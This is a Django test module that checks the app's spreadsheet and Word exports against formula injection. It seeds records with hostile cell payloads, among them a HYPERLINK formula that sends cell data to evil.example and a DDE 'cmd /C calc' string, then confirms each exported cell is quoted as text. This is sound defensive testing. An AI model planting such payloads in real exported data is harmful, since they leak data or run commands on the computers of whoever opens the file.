"""Every generated file writes user text as text (issue 9, item 4).

The test walks the URL patterns: every view that declares a download (core.export.download, or a
ScopedListView with export columns) is fetched with formula-like text in the data, through every
declared argument and query; a URL that looks like a download but declares nothing fails the test.
"""

from __future__ import annotations

import datetime as dt
import io
import itertools
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.conf import settings
from django.db import models
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from core.export import Download
from core.xlsx import Style, Workbook, formula_like
from tests.personas import World

MARK = "注入"
# One payload a field: classic formula, DDE, arithmetic, @-function, full-width, tab, CR, a control char.
P_EQ = f'=HYPERLINK("http://evil.example/?d="&A1,"{MARK}")'
P_DDE = f"+cmd|' /C calc'!A0{MARK}"
P_MINUS = f"-2+3+{MARK}"
P_AT = f"@SUM(1+1){MARK}"
P_FULL = f"＝1+1{MARK}"
P_TAB = f"\t=1+1{MARK}"
P_CR = f"\r=1+1{MARK}"
P_CTRL = f"=1\x0b+1{MARK}"  # a vertical tab: python-docx refuses it unless cleaned
PERSONAS = ("office", "auditadmin", "sysadmin")  # whoever may fetch the file


def _url_patterns() -> Iterator[tuple[str, URLPattern]]:
    def walk(patterns: list[Any], namespace: str) -> Iterator[tuple[str, URLPattern]]:
        for p in patterns:
            if isinstance(p, URLResolver):
                ns = f"{namespace}{p.namespace}:" if p.namespace else namespace
                yield from walk(p.url_patterns, ns)
            elif isinstance(p, URLPattern):
                yield namespace, p

    yield from walk(get_resolver().url_patterns, "")


def declared_download(callback: Any) -> Download | None:
    return getattr(callback, "download", None) or getattr(getattr(callback, "view_class", None), "download", None)


def downloads() -> list[tuple[str, URLPattern, Download]]:
    return [(f"{ns}{p.name}", p, spec) for ns, p in _url_patterns()
            if (spec := declared_download(p.callback)) is not None]


def _looks_like_a_download(ns: str, p: URLPattern) -> bool:
    route = str(p.pattern)
    name = p.name or ""
    return (any(s in route for s in (".xlsx", ".docx", "<str:fmt>", "export"))
            or any(s in name for s in ("export", "template", "download")))


def test_every_url_that_looks_like_a_download_declares_how_to_reach_it() -> None:
    undeclared = [f"{ns}{p.name} {p.pattern}" for ns, p in _url_patterns()
                  if _looks_like_a_download(ns, p) and declared_download(p.callback) is None]
    assert not undeclared, f"declare these with core.export.download(...): {undeclared}"
    assert len(downloads()) >= 15  # the walk itself works


def test_only_core_writes_spreadsheets() -> None:
    """One writer: xlsxwriter and openpyxl are imported by core/xlsx.py alone (tests and benchmarks
    build their own input files)."""
    offenders = []
    for path in Path(settings.BASE_DIR).glob("*/**/*.py"):
        rel = path.relative_to(settings.BASE_DIR).as_posix()
        if rel.startswith((".venv/", "bench/", "tests/")) or "/tests/" in rel or "/migrations/" in rel:
            continue
        text = path.read_text(encoding="utf-8")
        if ("import xlsxwriter" in text or "openpyxl" in text) and rel != "core/xlsx.py":
            offenders.append(rel)
    assert not offenders


@pytest.fixture
def hostile(world: World) -> dict[str, Any]:
    """Formula-like text in the text fields of every kind of object a download shows, built through
    the services."""
    from campaigns import services as campaigns
    from campaigns.choices import PlanKind, UnitRole
    from campaigns.twolists import list_item_save
    from campaigns.units import Resolution, resolve_into
    from enterprises import services as enterprises
    from enterprises.credit_code import make_credit_code
    from escalation.supervision import item_assign
    from hazards import services as hazards
    from hazards.choices import Source
    from ledgers import custom
    from ledgers import services as ledgers
    from ledgers.specs import SPECS
    from ledgers.tests.test_ledgers import SAMPLES
    from orgs.models import Domain, Jurisdiction, Unit
    from risk import services as risk
    from risk.choices import MeasureKind
    from risk.tests.factories import make_point
    from workdays import services as workdays

    office = world.user("office")
    dongshan = Jurisdiction.objects.get(name="东山街道")
    ent = enterprises.enterprise_create(
        actor=office, name=f"{P_EQ}企业", credit_code=make_credit_code("91430381XR0000001"), jurisdiction=dongshan,
        domains=[Domain.objects.get(code="D12")], address=P_DDE, legal_representative=P_MINUS, principal=P_AT,
        safety_manager=P_FULL, phone="+86 138 0000 0000", industry_code="3110")
    hazards.hazard_register(actor=office, enterprise=ent, description=P_EQ, source=Source.GOVERNMENT, place=P_TAB,
                            location=P_CR, reporter=P_MINUS)
    point = make_point(ent, name=f"{P_EQ}岗位", kind="post", location=P_DDE, description=P_CTRL,
                       emergency_actions=f"{P_MINUS}\n{P_CTRL}", duties=f"{P_AT}\n{P_CTRL}", responsible=P_FULL)
    risk.measure_add(actor=None, risk_point=point, kind=MeasureKind.EMERGENCY, level="post", content=P_CTRL,
                     responsible=P_TAB)
    risk.report_submit(actor=None, enterprise=ent, note=P_EQ)
    root = Jurisdiction.objects.get(code="430381")
    campaign = campaigns.campaign_create(actor=None, name=f"{P_EQ}行动", starts_on=dt.date(2024, 1, 1),
                                         ends_on=dt.date(2030, 12, 31), office_unit=Unit.objects.get(name="市安委办"),
                                         jurisdiction=root)
    plan = campaigns.plan_save(actor=None, campaign=campaign, kind=PlanKind.DOMAIN, code="D12", title=P_DDE,
                               short_name=P_MINUS, domain=Domain.objects.get(code="D12"), sort=1,
                               table_caption=P_AT)
    res = Resolution()
    resolve_into(res, "东山街道", UnitRole.LEAD)
    campaigns.task_create(actor=None, plan=plan, title=P_EQ, measures=P_FULL, units=res.assignments,
                          table_group=P_TAB, number=P_AT, responsibility_text=P_CR, source="table", table_year=2024,
                          **campaigns.deadline_values(f"{timezone.localdate().year - 1}年3月底", default_year=2024))
    list_item_save(actor=None, campaign=campaign, unit=Unit.objects.get(name="东山街道"), kind="problem",
                   item=P_EQ, measure=P_DDE, owner=P_MINUS)
    item_assign(actor=office, title=P_EQ, assignee=Unit.objects.get(name="东山街道"),
                deadline=timezone.localdate() + dt.timedelta(days=3), description=P_DDE)
    for key, spec in SPECS.items():
        values = dict(SAMPLES[key])
        text_field = next(n for n in spec.search_fields if not spec.model._meta.get_field(n).choices)
        values[text_field] = P_EQ[:30] if key != "certificates" else P_DDE[:20]
        ledgers.row_create(actor=None, model=spec.model, enterprise=ent, **values)
    definition = custom.definition_save(
        actor=office, definition=None, enterprises=[ent], jurisdictions=[], name=f"{P_EQ}台账", description="",
        target="enterprise", domain=None, remind_days=30, active=True,
        columns=custom.parse_columns(f"+1+1{MARK}栏目|文本|必填\n检测到期|日期|必填|到期"))
    custom.custom_row_save(actor=None, definition=definition, enterprise=ent,
                           values={"c1": P_MINUS, "c2": timezone.localdate() + dt.timedelta(days=5)})
    workdays.year_set_schedule(actor=world.user("sysadmin"), year=2031,
                               days=[workdays.DayEntry(dt.date(2031, 1, 1), False, f"={MARK}元旦")])
    return {"enterprise": ent, "point": point, "campaign": campaign, "plan": plan}


def _arg_values(value: Any) -> list[Any]:
    if isinstance(value, type) and issubclass(value, models.Model):
        newest = value._default_manager.order_by("-pk").first()
        assert newest is not None, f"no {value.__name__} to fetch a download with"
        return [newest.pk]
    if callable(value):
        return list(value())
    return list(value)


def _fetch(client: Client, world: World, url: str) -> Any:
    for persona in PERSONAS:
        client.force_login(world.users[persona])
        response = client.get(url)
        if response.status_code != 403:
            return response
    return response


def check_xlsx(data: bytes, where: str) -> list[str]:
    """Every cell that a spreadsheet could evaluate is text with the quote prefix; returns all texts."""
    texts = []
    book = openpyxl.load_workbook(io.BytesIO(data))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type != "f", (where, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if formula_like(cell.value):
                        assert cell.quotePrefix, (where, cell.coordinate, cell.value)
    # Our own reader (calamine) must see the same text, not a formula result.
    for sheet in CalamineWorkbook.from_filelike(io.BytesIO(data)).sheet_names:
        CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name(sheet).to_python()
    return texts


def test_every_download_writes_user_text_as_text(client: Client, world: World, hostile: dict[str, Any]) -> None:
    from risk.documents import docx_text

    fetched = 0
    for name, pattern, spec in downloads():
        arg_names = list(pattern.pattern.converters)
        missing = [a for a in arg_names if a not in spec.args]
        assert not missing, f"{name}: declare the URL arguments {missing} in its download(...)"
        choices = [_arg_values(spec.args[a]) for a in arg_names]
        for values in itertools.product(*choices):
            base = reverse(name, kwargs=dict(zip(arg_names, values, strict=True)))
            for query in spec.queries:
                url = base + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")
                response = _fetch(client, world, url)
                assert response.status_code == 200, (url, response.status_code)
                kind = response["Content-Type"].rsplit(".", 1)[-1]
                assert kind in ("sheet", "document"), (url, response["Content-Type"])
                if kind == "sheet":
                    text = "\n".join(check_xlsx(response.content, url))
                else:
                    text = docx_text(response.content)
                if spec.user_text:
                    assert MARK in text, f"{url}: the hostile text did not reach the file"
                fetched += 1
    assert fetched >= 30


def test_exported_enterprise_list_imports_back_unchanged(client: Client, world: World,
                                                         hostile: dict[str, Any]) -> None:
    """Quote prefixes are a cell attribute, not part of the value: '-5' and '+86 …' round-trip."""
    from enterprises.importer import import_enterprises

    client.force_login(world.users["office"])
    export = client.get("/enterprises/", {"export": "xlsx", "q": hostile["enterprise"].credit_code})
    ent = hostile["enterprise"]
    result = import_enterprises(actor=world.user("office"), file=io.BytesIO(export.content))
    assert result.ok, result.errors
    assert (result.created, result.updated, result.unchanged) == (0, 0, 1)
    ent.refresh_from_db()
    assert (ent.name, ent.address, ent.legal_representative, ent.phone) == (
        f"{P_EQ}企业", P_DDE, P_MINUS, "+86 138 0000 0000")


@given(st.lists(st.one_of(st.text(max_size=40), st.integers(-10**12, 10**12),
                          st.sampled_from([P_EQ, P_DDE, P_MINUS, P_AT, P_FULL, P_TAB, P_CR, "-5", "+86 138"])),
                min_size=1, max_size=12))
def test_writer_keeps_every_value_and_never_writes_a_formula(values: list[Any]) -> None:
    book = Workbook()
    ws = book.sheet("t")
    ws.write_row(0, values, Style(border=1))
    data = book.getvalue()
    check_xlsx(data, "hypothesis")
    back = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()[0]
    for want, got in zip(values, back, strict=False):
        if isinstance(want, str):
            want = "".join(ch for ch in want if ch in "\t\n\r" or ch >= " ")
            if want:
                assert got == want
        else:
            assert got == want
